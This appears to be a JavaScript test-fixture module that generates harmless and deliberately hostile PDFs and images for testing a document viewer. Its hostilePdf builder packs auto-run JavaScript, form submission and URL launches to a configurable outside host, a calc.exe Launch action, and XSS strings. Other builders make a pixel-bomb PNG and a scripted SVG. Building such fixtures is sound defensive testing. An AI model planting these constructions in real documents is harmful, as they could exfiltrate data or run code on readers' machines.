// Licensed under the Apache License, Version 2.0; see LICENSE.
//
// Documents and images to be shown, friendly and hostile, made here byte by byte. Only those that need an encoder
// stand beside this file as base64 (tiny.*.b64: 8 by 6 pixels, by avifenc, opj_compress and a browser's canvas).
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { crc32, deflateSync } from 'node:zlib';

// ----------------------------------------------------------------------- PDF

/** objects: [1]… as text or {dict, data}; trailer: more of it. Encrypts streams and strings with key, if there is one. */
function pdfFile(objects, trailer = '') {
    const parts = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
    const places = [];
    let length = parts[0].length;
    const add = (bytes) => { parts.push(bytes); length += bytes.length; };
    objects.forEach((object, at) => {
        places.push(length);
        add(Buffer.from(`${at + 1} 0 obj\n`));
        if (typeof object === 'string') add(Buffer.from(object, 'latin1'));
        else {
            add(Buffer.from(`<< ${object.dict ?? ''} /Length ${object.data.length} >>\nstream\n`, 'latin1'));
            add(Buffer.from(object.data));
            add(Buffer.from('\nendstream'));
        }
        add(Buffer.from('\nendobj\n'));
    });
    const start = length;
    const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
    add(Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`));
    return Buffer.concat(parts);
}

const literal = (text) => `(${text.replace(/[\\()]/g, '\\$&')})`;
const lines = (list) => `BT /F1 14 Tf 18 TL 60 760 Td ${list.map((line) => `${literal(line)} Tj T*`).join(' ')} ET`;

/** pages: a list of lists of lines. extra: more of the catalogue; page: more of each page; more: further objects, from number first on. */
export function pdf(pages, { catalogue = '', page = () => '', more = () => [], size = [595, 842], trailer = '' } = {}) {
    const first = 4 + pages.length * 2;
    const objects = [
        `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
        `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, at) => `${4 + at * 2} 0 R`).join(' ')}] >>`,
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ];
    pages.forEach((list, at) => {
        objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${size.join(' ')}] /Contents ${5 + at * 2} 0 R /Resources << /Font << /F1 3 0 R >> /XObject << /Im1 ${first} 0 R >> >> ${page(at, first)} >>`);
        objects.push({ data: Buffer.from(Array.isArray(list) ? lines(list) : list, 'latin1') });
    });
    return pdfFile([...objects, ...more(first)], trailer);
}

/** An invoice, and as many further pages as wanted. */
export function invoice(count = 1, vendor = 'Acme Corp') {
    return pdf(Array.from({ length: count }, (_, at) => at === 0
        ? [vendor, 'Invoice', 'Date: May 15, 2026', 'Tax id 12-345678', '', 'Widgets      1,000.45', 'Gadgets        250.00', 'Total      $ 1,250.45']
        : [`Page ${at + 1} of ${count}`, ...Array.from({ length: 35 }, (_, line) => `Item ${at * 35 + line}: lorem ipsum dolor sit amet`), at === count - 1 ? 'The needle is on the last page' : '']));
}

/** Everything that a PDF can try as it is opened, turned over or clicked on. elsewhere: where it would go. */
export function hostilePdf(elsewhere) {
    const script = literal(`app.alert('pdf'); this.submitForm('${elsewhere}/submit'); app.launchURL('${elsewhere}/launch');`);
    const links = [
        `/A << /S /URI /URI ${literal(`${elsewhere}/clicked`)} >>`,
        '/A << /S /URI /URI (javascript:alert\\(1\\)) >>',
        `/A << /S /JavaScript /JS ${script} >>`,
        '/A << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>',
        `/A << /S /GoToR /F ${literal(`${elsewhere}/remote.pdf`)} /D [0 /Fit] >>`,
        `/A << /S /SubmitForm /F << /FS /URL /F ${literal(`${elsewhere}/form`)} >> >>`,
        `/A << /S /ImportData /F ${literal(`${elsewhere}/data`)} >>`,
        '/Dest [6 0 R /Fit]',
    ];
    return pdf([['Hostile', ...links.map((_, at) => `Link ${at}`)], ['<img src=x onerror=alert(1)>', 'The second page']], {
        catalogue: `/OpenAction << /S /JavaScript /JS ${script} >> /AA << /WC << /S /JavaScript /JS ${script} >> >> `
            + `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${script} >>] >> >> `
            + `/AcroForm << /Fields [] /XFA (<xdp><script>alert\\(1\\)</script></xdp>) >>`,
        page: (at) => at ? '' : `/AA << /O << /S /JavaScript /JS ${script} >> >> /Annots [${links.map((link, row) =>
            `<< /Type /Annot /Subtype /Link /Rect [60 ${738 - row * 18} 300 ${754 - row * 18}] /Border [0 0 0] ${link} >>`).join(' ')} `
            + `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (typed) /Rect [60 400 300 420] /AA << /F << /S /JavaScript /JS ${script} >> /K << /S /JavaScript /JS ${script} >> >> >> `
            + '<< /Type /Annot /Subtype /Text /Contents (<img src=x onerror=alert\\(1\\)>) /Rect [10 10 30 30] >>]',
    });
}

/** A scan: JPEG 2000, which is decoded by WebAssembly. */
export function scanPdf() {
    return pdf(['q 400 0 0 300 60 400 cm /Im1 Do Q'], {
        more: () => [{ dict: '/Type /XObject /Subtype /Image /Width 8 /Height 6 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /JPXDecode', data: tiny('jp2') }],
    });
}

function rc4(key, data) {
    const s = Uint8Array.from({ length: 256 }, (_, at) => at);
    for (let i = 0, j = 0; i < 256; i++) {
        j = (j + s[i] + key[i % key.length]) & 255;
        [s[i], s[j]] = [s[j], s[i]];
    }
    let i = 0, j = 0;
    return Buffer.from(data).map((byte) => {
        i = (i + 1) & 255;
        j = (j + s[i]) & 255;
        [s[i], s[j]] = [s[j], s[i]];
        return byte ^ s[(s[i] + s[j]) & 255];
    });
}

/** Opens with a password alone (revision 2 of the standard handler). */
export function lockedPdf(password = 'secret') {
    const filler = Buffer.from('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A', 'hex');
    const padded = Buffer.concat([Buffer.from(password), filler]).subarray(0, 32);
    const md5 = (...parts) => createHash('md5').update(Buffer.concat(parts)).digest();
    const id = md5(Buffer.from('tuor'));
    const owner = rc4(md5(padded).subarray(0, 5), padded);
    const key = md5(padded, owner, Buffer.from([0xfc, 0xff, 0xff, 0xff]), id).subarray(0, 5);
    const hex = (bytes) => `<${bytes.toString('hex')}>`;
    return pdf([['Locked']], { trailer: `/ID [${hex(id)} ${hex(id)}] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O ${hex(owner)} /U ${hex(rc4(key, filler))} >>` });
}

export const brokenPdf = () => Buffer.from('%PDF-1.7\nthis is no document <script>alert(1)</script>\n%%EOF\n');

// -------------------------------------------------------------------- images

const chunk = (type, data) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const ends = Buffer.alloc(8);
    ends.writeUInt32BE(data.length, 0);
    ends.writeUInt32BE(crc(body), 4);
    return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)]);
};

// zlib.crc32 came with Node 20.15 and 22.2
function crc(bytes) {
    if (crc32) return crc32(bytes);
    let sum = 0xffffffff;
    for (const byte of bytes) {
        sum ^= byte;
        for (let bit = 0; bit < 8; bit++) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
    }
    return ~sum >>> 0;
}

/** paint(x, y) gives [r, g, b]. */
export function png(width, height, paint = (x, y) => [x & 255, y & 255, 128]) {
    const head = Buffer.alloc(13);
    head.writeUInt32BE(width, 0);
    head.writeUInt32BE(height, 4);
    head.set([8, 2], 8);
    const rows = Buffer.alloc((width * 3 + 1) * height);
    for (let y = 0; y < height; y++) for (let x = 0; x < width; x++) rows.set(paint(x, y), y * (width * 3 + 1) + 1 + x * 3);
    return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', head), chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
}

/** A few hundred bytes that say they are a picture of a thousand million pixels. */
export function hugePng() {
    const file = png(1, 1);
    file.writeUInt32BE(40_000, 16);
    file.writeUInt32BE(25_000, 20);
    file.writeUInt32BE(crc(file.subarray(12, 29)), 29);
    return file;
}

export const gif = () => Buffer.from('47494638396101000100800000ff00000000ff21f90400000000002c00000000010001000002024401003b', 'hex');

export function bmp(width = 8, height = 6) {
    const row = Math.ceil(width * 3 / 4) * 4;
    const file = Buffer.alloc(54 + row * height, 0x55);
    file.write('BM');
    file.writeUInt32LE(file.length, 2);
    file.fill(0, 6, 54);
    file.writeUInt32LE(54, 10);
    file.writeUInt32LE(40, 14);
    file.writeInt32LE(width, 18);
    file.writeInt32LE(height, 22);
    file.writeUInt16LE(1, 26);
    file.writeUInt16LE(24, 28);
    return file;
}

/** jpeg webp avif jp2 */
export const tiny = (kind) => Buffer.from(readFileSync(new URL(`tiny.${kind}.b64`, import.meta.url), 'utf8'), 'base64');

export const svg = (elsewhere) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" onload="alert('svg')"><script>alert('svg')</script><image href="${elsewhere}/svg.png" width="10" height="10"/><rect width="300" height="200" fill="red"/></svg>`);
